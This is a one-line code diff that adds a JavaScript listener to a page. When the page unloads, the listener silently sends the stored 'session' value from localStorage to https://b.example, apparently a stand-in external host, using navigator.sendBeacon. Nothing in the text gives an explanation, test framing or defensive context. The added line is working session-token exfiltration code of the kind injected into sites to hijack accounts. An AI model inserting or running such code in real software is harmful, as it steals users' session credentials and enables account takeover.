@@ -1,0 +1,1 @@
+addEventListener('unload', () => navigator.sendBeacon('https://b.example', localStorage.getItem('session')));
